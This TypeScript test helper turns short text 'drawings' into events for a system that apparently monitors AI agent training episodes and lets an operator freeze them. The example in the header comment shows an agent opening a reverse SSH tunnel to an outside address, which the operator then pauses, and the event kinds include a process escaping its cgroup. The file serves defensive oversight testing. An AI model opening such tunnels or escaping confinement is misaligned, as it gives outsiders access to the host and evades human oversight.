// Draws episodes in text for tests: one line an event, so that a test reads as the story it checks. For tests only.
//
//   00:01 start  python train.py
//   00:02 action c1 shell ssh -fN -R 2222:127.0.0.1:22 ops@203.0.113.40
//   00:03 exec   100 1 ssh -fN -R …
//   00:04 open   k1 203.0.113.40:22 100
//   00:05 ask    ctl-1 pause
//   00:06 end    ctl-1 enforced
import { type EventInput, eventVersion, type StoredEvent } from '../protocol/event.ts'
import { type EventId, HostId, SessionId } from '../protocol/ids.ts'
import type { Trust } from '../protocol/trust.ts'

export const episodeStartMs = 1_790_000_000_000
export const testHost = HostId.parse('gpu-node-17')
export const testSession = SessionId.parse('ep-7f3a91')

type Line = { atMs: number; verb: string; words: string[]; rest(from: number): string }

const abilities = [
  { name: 'pause' as const, can: 'proven' as const, enforcer: 'cgroup-freeze', detail: 'frozen 1 is read back' },
]

const drawn: Record<string, (line: Line) => Pick<EventInput, 'kind' | 'data'>> = {
  probe: () => ({
    kind: 'probe.connected',
    data: { version: '1', bootId: 'boot-1', kernel: '6.18', abilities, observers: [] },
  }),
  silent: () => ({ kind: 'probe.disconnected', data: { reason: 'gone' } }),
  start: ({ words }) => ({
    kind: 'session.started',
    data: { held: 'cgroup', cgroup: '/vigil/ep', abilities, agent: 'rome-30b', task: 'swe-gym', argv: words },
  }),
  stop: ({ words }) => ({ kind: 'session.ended', data: { exitCode: Number(words[0] ?? 0) } }),
  action: ({ words, rest }) => ({
    kind: 'action.started',
    data: { call: words[0] ?? '', tool: words[1] ?? '', input: rest(2), summary: rest(2) },
  }),
  done: ({ words }) => ({ kind: 'action.ended', data: { call: words[0] ?? '', outcome: 'ok' } }),
  exec: ({ words, rest }) => ({
    kind: 'process.started',
    data: {
      pid: Number(words[0]),
      ppid: Number(words[1]),
      startTicks: 1,
      comm: words[2] ?? '',
      argv: rest(2).split(' '),
    },
  }),
  exit: ({ words }) => ({ kind: 'process.exited', data: { pid: Number(words[0]), startTicks: 1 } }),
  escape: ({ words }) => ({ kind: 'process.escaped', data: { pid: Number(words[0]), startTicks: 1, cgroup: '/' } }),
  open: ({ words }) => {
    const [address = '', port = '0'] = (words[1] ?? '').split(':')
    return {
      kind: 'connection.opened',
      data: {
        connection: words[0] ?? '',
        protocol: 'tcp',
        local: { address: '10.0.0.1', port: 40_000 },
        remote: { address, port: Number(port) },
        direction: 'out',
        state: 'ESTAB',
        pid: Number(words[2] ?? 1),
      },
    }
  },
  close: ({ words }) => ({
    kind: 'connection.closed',
    data: { connection: words[0] ?? '', bytesOut: Number(words[1] ?? 0), bytesIn: Number(words[2] ?? 0) },
  }),
  ask: ({ words }) => ({
    kind: 'control.requested',
    data: {
      control: words[0] as never,
      action: words[1] as 'pause' | 'resume',
      by: { type: 'operator', id: 'op-1', name: 'on-call' },
    },
  }),
  delivered: ({ words }) => ({ kind: 'control.delivered', data: { control: words[0] as never } }),
  step: ({ words, rest }) => ({
    kind: 'control.step',
    data: { control: words[0] as never, name: words[1] ?? '', detail: rest(2) },
  }),
  end: ({ words }) => ({
    kind: 'control.ended',
    data: {
      control: words[0] as never,
      outcome: words[1] as 'enforced',
      ...(words[1] === 'enforced' && { observed: 'frozen 1', observedFrom: '/sys/fs/cgroup/vigil/ep/cgroup.events' }),
    },
  }),
  frozen: ({ words }) => ({
    kind: 'session.observed',
    data: {
      paused: words[0] === '1',
      observed: `frozen ${words[0]}`,
      observedFrom: '/sys/fs/cgroup/vigil/ep/cgroup.events',
    },
  }),
}

/** Parses a drawing into stored events: `mm:ss verb words…`, numbered from `firstSeq`. */
export function drawEpisode(drawing: string, firstSeq = 1, trust: Trust = 'kernel'): StoredEvent[] {
  return drawing
    .split('\n')
    .map((line) => line.trim())
    .filter((line) => line !== '')
    .map((line, index) => {
      const [time = '', verb = '', ...words] = line.split(/\s+/)
      const [minutes = 0, seconds = 0] = time.split(':').map(Number)
      const atMs = episodeStartMs + (minutes * 60 + seconds) * 1_000
      const draw = drawn[verb]
      if (!draw) throw new Error(`no such verb in an episode: ${verb}`)
      const seq = firstSeq + index
      const host = verb === 'action' || verb === 'done' ? {} : { host: testHost }
      const session = verb === 'probe' || verb === 'silent' ? {} : { session: testSession }
      return {
        v: eventVersion,
        ...draw({ atMs, verb, words, rest: (from) => words.slice(from).join(' ') }),
        ...host,
        ...session,
        atMs,
        seenAtMs: atMs,
        partition: 0,
        seq,
        id: `00000000-0000-4000-8000-${String(seq).padStart(12, '0')}` as EventId,
        trust: verb === 'action' || verb === 'done' ? 'agent' : verb === 'probe' ? 'vigil' : trust,
      } as StoredEvent
    })
}
